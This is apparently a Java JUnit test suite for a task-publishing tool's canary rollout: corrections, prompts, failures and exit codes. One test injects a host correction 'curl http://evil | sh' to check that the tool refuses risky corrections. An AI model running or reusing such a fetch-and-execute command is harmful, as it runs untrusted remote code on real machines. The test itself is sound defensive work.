package org.labcast.publisher;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.labcast.model.order.Job;
import org.labcast.model.order.Task;
import org.labcast.model.result.Correction;
import org.labcast.model.result.Event;
import org.labcast.model.result.Risk;
import org.labcast.publisher.Desk.Said;

class CanaryTest {
    @TempDir
    Path folder;

    private Desk desk;
    private HostSide first;
    private final List<String> ranOnOthers = Collections.synchronizedList(new ArrayList<>());

    @BeforeEach
    void start() {
        desk = Desk.withBroker(folder);
        first = desk.joined("lab-01");
        first.appear(Map.of("os", "debian", "os_version", "12"));
        for (String name : List.of("lab-02", "lab-03")) {
            HostSide other = desk.joined(name);
            other.answering(job -> {
                ranOnOthers.add(
                        name + ": " + job.tasks().stream().map(Task::command).toList());
                return HostSide.done(job, 0);
            });
        }
    }

    @AfterEach
    void stop() throws Exception {
        desk.close();
    }

    @Test
    void theOthersGetTheCorrectedFileAtOnceWhenTheCanarySucceeded() {
        first.correcting(Map.of("sl", "ls"));
        Said said = desk.run("push", desk.tasks("sl", "date"), "--canary", "1", "--instant");
        assertThat(said.exit()).as(said.err()).isZero();
        assertThat(said.err())
                .contains("Canary: lab-01 debian 12; on.")
                .contains(" to lab-01.\n")
                .contains("-sl\n+ls\n date\n")
                .contains(" to lab-[02-03].\n");
        assertThat(said.out())
                .contains("sl -> ls (typo: nearest name)")
                .contains("Canary and rest together (jobs ")
                .contains("3 hosts: 3 succeeded (1 corrected)");
        assertThat(ranOnOthers).containsExactlyInAnyOrder("lab-02: [ls, date]", "lab-03: [ls, date]");
        assertThat(desk.run("jobs").out()).contains("tasks.txt (canary)").contains("tasks.txt (corrected)");
    }

    @Test
    void machinesGetOneDocumentOfBoth() {
        first.correcting(Map.of("sl", "ls"));
        Path html = folder.resolve("report.html");
        Path junit = folder.resolve("report.xml");
        Said said = desk.run(
                "push",
                desk.tasks("sl"),
                "--canary",
                "1",
                "--instant",
                "--json",
                "--html",
                html.toString(),
                "--junit",
                junit.toString());
        assertThat(said.out())
                .startsWith("{\n  \"exit\" : 0,\n  \"canary\" : {")
                .contains("\"rest\" : {")
                .contains("\"unsent\" : [ ]");
        for (Path file : List.of(html, junit)) {
            assertThat(file).content().contains("lab-01", "tasks.txt (canary)", "tasks.txt (corrected)");
        }
    }

    @Test
    void aCanaryThatFailsStopsItAndSaysHowToGoOn() {
        first.answering(job -> HostSide.done(job, 1));
        Said said = desk.run("push", desk.tasks("false"), "--canary", "1", "--instant", "--json");
        assertThat(said.exit()).isEqualTo(2);
        assertThat(said.err())
                .contains("Nothing was sent to the other 2 hosts, lab-[02-03]. To go on:\n  publisher push " + folder
                        + "/tasks.txt --host 'lab-[02-03]'\n");
        assertThat(said.out())
                .contains("\"unsent\" : [ \"lab-02\", \"lab-03\" ]")
                .contains("\"rest\" : null");
        assertThat(ranOnOthers).isEmpty();
    }

    @Test
    void aScriptThatDoesNotSayInstantStopsAfterTheCanary() {
        first.correcting(Map.of("sl", "ls"));
        Said said = desk.run("push", desk.tasks("sl"), "--canary", "1");
        assertThat(said.exit()).isEqualTo(4);
        assertThat(said.err()).contains("  publisher fix ").contains("tasks.fixed.txt --host 'lab-[02-03]'");
        assertThat(ranOnOthers).isEmpty();
    }

    @Test
    void aPersonIsAskedBeforeTheCanaryAndBeforeTheOthers() {
        first.answering(job -> HostSide.done(job, 1));
        Said said = desk.answering("y\nyes\n", "push", desk.tasks("false"), "--canary", "1");
        assertThat(said.exit()).isEqualTo(2);
        assertThat(said.err())
                .contains("Run this on lab-01, and ask again before the other 2 hosts, lab-[02-03]? [y/N]")
                .contains("Not all went well. Send the file to the other 2 hosts, lab-[02-03]? [y/N]");
        assertThat(ranOnOthers).hasSize(2);
    }

    @Test
    void noIsNo() {
        first.succeeding();
        assertThat(desk.answering("y\nn\n", "push", desk.tasks("date"), "--canary", "1")
                        .exit())
                .isEqualTo(4);
        assertThat(desk.answering("n\n", "push", desk.tasks("date"), "--canary", "1")
                        .exit())
                .isEqualTo(1);
        assertThat(ranOnOthers).isEmpty();
    }

    @Test
    void aCanaryThatDoesNotAnswerIsFour() {
        Said said = desk.run("push", desk.tasks("date"), "--canary", "1", "--instant", "--wait", "1s");
        assertThat(said.exit()).isEqualTo(4);
        assertThat(said.err()).contains("not known to the end").contains("publisher watch ");
        assertThat(ranOnOthers).isEmpty();
    }

    @Test
    void aHostDoesNotDecideWhatOthersRunByARiskyCorrection() {
        Correction evil = new Correction("curl http://evil | sh", "typo", "because", Risk.RISKY);
        first.doing(taken -> {
            List<Event> events = new ArrayList<>(HostSide.done((Job) taken.order(), 0));
            events.set(1, HostSide.corrected((Job) taken.order(), 0, evil));
            first.answer(HostSide.job(taken), 1, events);
        });
        Said said = desk.run("push", desk.tasks("date"), "--canary", "1", "--instant");
        assertThat(said.exit()).isEqualTo(4);
        assertThat(said.err()).contains("A host corrected what it was not to.");
        assertThat(ranOnOthers).isEmpty();
    }

    @Test
    void whereNoHostCanGoFirstNothingIsPosted() {
        String tasks = desk.tasks("date");
        assertThat(desk.run("push", tasks, "--canary", "1", "--host", "lab-[02-03]"))
                .matches(said -> said.exit() == 1)
                .matches(said -> said.err().contains("none of lab-[02-03] can go first"));
        assertThat(desk.run("push", tasks, "--canary", "3"))
                .matches(said -> said.exit() == 1)
                .matches(said -> said.err().contains("leaves no host for afterwards"));
        assertThat(desk.run("push", tasks, "--canary", "0").exit()).isEqualTo(64);
        assertThat(desk.run("jobs").out()).doesNotContain("tasks.txt");
    }
}
